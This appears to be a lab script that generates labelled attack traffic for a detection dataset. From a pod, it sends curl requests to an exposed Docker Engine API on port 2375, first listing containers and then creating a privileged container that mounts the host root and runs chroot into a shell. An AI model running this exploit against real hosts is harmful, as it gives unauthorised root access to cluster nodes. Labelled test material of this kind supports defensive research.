#!/usr/bin/env bash
# Privilege escalation through the node: a Docker Engine API left open on TCP
# (node-2:2375); the pod lists containers and creates one that mounts the host's root.
set -euo pipefail
source "$LAB_DIR/lib.sh"
lab_assert_target "$NODE2_IP"
ns=$(lab_pod_ns toolbox)
gt_begin docker-api lateral-movement curl pod:toolbox node:2 "GET /v1.43/containers/json, POST /v1.43/containers/create with Binds /:/host on node-2:2375"
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 "http://$NODE2_IP:2375/v1.43/containers/json?all=1" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -H 'Content-Type: application/json' \
  -d '{"Image":"alpine","Cmd":["chroot","/host","sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' \
  "http://$NODE2_IP:2375/v1.43/containers/create" || true
gt_end '{"dport":2375}'
